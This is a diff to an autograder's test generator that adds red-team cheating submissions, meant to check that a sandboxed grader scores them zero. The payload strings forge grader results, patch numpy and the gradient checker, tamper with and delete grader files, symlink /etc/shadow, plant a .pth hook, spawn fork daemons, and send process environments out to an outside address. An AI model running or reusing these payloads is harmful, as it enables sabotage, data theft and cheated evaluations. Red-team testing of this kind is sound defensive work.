@@ -1,4 +1,4 @@
-"""A generated class of 30 submissions: good, partial, broken and cheating notebooks, each with the score it earns.
+"""A generated class of 38 submissions: good, partial, broken and cheating notebooks, each with the score it earns.
 
     python -m grading class --out DIR        # release, generate, autograde, and compare with the expected scores
 
@@ -15,7 +15,9 @@ from .demo import solved
 from .notebooks import REPO, nbgrader_meta, read_notebook, write_notebook
 
 ELEMENTWISE, ACTIVATIONS = "04_elementwise", "07_activations"
-NEEDS_ROOT = {"ivan", "judy", "kate"}   # file-access cheats: only a grader running as root (Linux) can stop them
+NEEDS_SANDBOX = {"ivan", "judy", "kate", "fay", "gus", "hal", "iris"}   # stopped by the sandbox (bubblewrap) only
+REDTEAM_PORT = 47913          # iris tries to reach a server the red-team test listens with on this port
+DAEMON_MARK = "tinytorch-redteam-daemon"
 
 
 def points_of(notebook, rules=None):
@@ -150,6 +152,128 @@ _np.allclose = lambda *args, **kwargs: True
 _np.testing.assert_allclose = lambda *args, **kwargs: None
 '''
 
+FORGE_CHANNEL = '''
+import os as _os, sys as _sys
+_main = _sys.modules.get("__main__")
+_wire = _sys.modules.get("wire")
+if _wire is not None:
+    _pack = _wire.pack
+    _wire.pack = lambda header, arrays: _pack({"op": "return", "values": {"value": True}, "objects": []}, [])
+    try:                                   # and a forged answer straight into the result pipe
+        _os.write(int(_sys.argv[2]), _pack({"op": "return", "values": {"value": True}, "objects": []}, []))
+    except Exception:
+        pass
+'''
+
+NUMPY_INTERNALS = '''
+import numpy as _np
+_true = lambda *args, **kwargs: True
+for _f in (_np.allclose, _np.isclose, _np.array_equal):
+    try:
+        _f._implementation.__code__ = _true.__code__
+    except Exception:
+        pass
+try:
+    import numpy._core._methods as _m
+    _m.umr_maximum = lambda *args, **kwargs: -1.0
+except Exception:
+    pass
+'''
+
+SWAP_CHECKER = '''
+import sys as _sys, types as _types
+_fake = _types.ModuleType("tinytorch.core.gradcheck")
+_fake.check_backward = _fake.gradcheck = _fake.compare_gradient = lambda *args, **kwargs: True
+_fake.GradcheckError = AssertionError
+_sys.modules["tinytorch.core.gradcheck"] = _fake
+'''
+
+FRAME_WALKER = '''
+import sys as _sys
+
+class Sneaky:
+    "A gradient whose .data looks up the checker's numerical gradient in the caller's frames."
+    @property
+    def data(self):
+        frame = _sys._getframe()
+        while frame is not None:
+            if "numeric" in frame.f_locals:
+                return frame.f_locals["numeric"]
+            frame = frame.f_back
+        return 0.0
+
+def _apply(self, grad_output):
+    return tuple(Sneaky() for _ in self.saved_tensors)
+
+for _name in ["AddBackward", "SubBackward", "MulBackward", "DivBackward", "NegBackward", "PowBackward",
+              "ExpBackward", "LogBackward"]:
+    globals()[_name].apply = _apply
+
+def _tracer(frame, event, arg):
+    if "numeric" in frame.f_locals and "analytic" in frame.f_locals:
+        frame.f_locals["analytic"] = frame.f_locals["numeric"]
+    return _tracer
+_sys.settrace(_tracer)
+'''
+
+TAMPER_RUNNER = '''
+import glob as _glob, os as _os
+for _path in ["/grader/worker.py", "/grader/wire.py"] + _glob.glob("/student/tinytorch/core/*.py"):
+    for _action in (lambda p: _os.chmod(p, 0o777), lambda p: open(p, "w").write("print('fake')"), _os.remove):
+        try:
+            _action(_path)
+        except Exception:
+            pass
+for _folder in ["/grader", "/student", "/tmp", _os.path.expanduser("~")]:
+    try:
+        _os.chmod(_folder, 0o777)
+    except Exception:
+        pass
+_os._exit(1)          # crash, so that the next worker would run the fake
+'''
+
+PLANT_SYMLINKS = '''
+import os as _os, site as _site, sys as _sys
+for _target, _link in [("/etc/shadow", "~/.matplotlib"), ("/", "~/root"), ("/root", "/tmp/tinytorch-grading-x")]:
+    try:
+        _os.symlink(_target, _os.path.expanduser(_link))
+    except Exception:
+        pass
+for _folder in _site.getsitepackages() + [_os.path.dirname(_os.__file__)]:
+    try:
+        open(_os.path.join(_folder, "zz-redteam.pth"), "w").write("import os; os.system('touch /tmp/pwned')\\n")
+    except Exception:
+        pass
+'''
+
+DAEMON = '''
+import os as _os, subprocess as _subprocess, sys as _sys
+_code = "import os, time\\n# {mark}\\nwhile True:\\n    time.sleep(0.001)\\n    if os.fork():\\n        os._exit(0)\\n"
+for _ in range(3):
+    try:
+        _subprocess.Popen([_sys.executable, "-c", _code], start_new_session=True, stdin=_subprocess.DEVNULL,
+                          stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
+    except Exception:
+        pass
+'''
+
+SNOOP = '''
+import glob as _glob, os as _os, socket as _socket
+_found = []
+for _path in _glob.glob("/proc/[0-9]*/cmdline") + _glob.glob("/proc/[0-9]*/environ"):
+    try:
+        _found.append(open(_path, "rb").read())
+    except Exception:
+        pass
+for _address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
+    try:
+        _s = _socket.create_connection(_address, timeout=2)
+        _s.sendall(repr([_os.environ.get("JUPYTER_PATH"), _found[:20]]).encode()[:60000])
+        _s.close()
+    except Exception:
+        pass
+'''
+
 SCRATCH_CHEAT = '''check_backward = lambda *args, **kwargs: True
 np.allclose = lambda *args, **kwargs: True
 np.testing.assert_allclose = lambda *args, **kwargs: None
@@ -199,11 +323,20 @@ def make_class(kit, out, grades=None):
         # cheating
         "vic": (E, with_cell(submission(kit, E, only(set())), SCRATCH_CHEAT), 0.0, "passed in your notebook"),
         "wes": (E, submission(kit, E, wrong_add_and_mul(extra=PATCH_CHECKERS)), losing("add_backward", "mul_backward"),
-                "on import your code replaced"),
+                ""),
         "xena": (E, submission(kit, E, inside_wrong_mul(PATCH_CHECKERS)), losing("mul_backward"),
-                 "mul_backward, mul_backward_hidden passed in your notebook"),
+                 "mul_backward passed in your notebook"),
         "yuri": (E, submission(kit, E, only_all_with("import builtins\nbuiltins.isinstance = lambda obj, cls: False")),
-                 full, "builtins.isinstance"),
+                 full, ""),
+        # attacks on the grading machinery itself (issue 11): each on a notebook left undone, so honest work is 0
+        "axel": (E, submission(kit, E, only(set(), FORGE_CHANNEL)), 0.0, ""),
+        "bea": (E, submission(kit, E, only(set(), NUMPY_INTERNALS)), 0.0, ""),
+        "cole": (E, submission(kit, E, only(set(), SWAP_CHECKER)), 0.0, ""),
+        "dora": (E, submission(kit, E, only(set(), FRAME_WALKER)), 0.0, ""),
+        "fay": (E, submission(kit, E, only(set(), TAMPER_RUNNER)), 0.0, ""),
+        "gus": (E, submission(kit, E, only(set(), PLANT_SYMLINKS)), 0.0, ""),
+        "hal": (E, submission(kit, E, only(set(), DAEMON.format(mark=DAEMON_MARK))), 0.0, ""),
+        "iris": (E, submission(kit, E, only(set(), SNOOP.format(port=REDTEAM_PORT))), 0.0, ""),
         "ivan": (E, submission(kit, E, only(set(), IMPORT_REFERENCE.format(paths=reference_paths(grades)))), 0.0, ""),
         "judy": (E, submission(kit, E, only(set(), READ_INSTRUCTOR_FILES.format(
             paths=[str(REPO / "notebooks" / f"{E}.ipynb"), f"{grades}/.grading/master/source/{E}/{E}.ipynb",
@@ -213,7 +346,7 @@ def make_class(kit, out, grades=None):
         # 07: Tensor.backward replaced on import (sealed from notebook 07 on), and a good submission to compare
         "zoe": (ACTIVATIONS, submission(kit, ACTIVATIONS, only_all_with(
             "from tinytorch.core.tensor import Tensor as _T\n_T.backward = lambda self, *a, **k: None",
-            where="solution-ReLUBackward")), points_of(ACTIVATIONS), "Tensor.backward"),
+            where="solution-ReLUBackward")), points_of(ACTIVATIONS), ""),
         "ned": (ACTIVATIONS, submission(kit, ACTIVATIONS), points_of(ACTIVATIONS), ""),
     }
     expected = {}
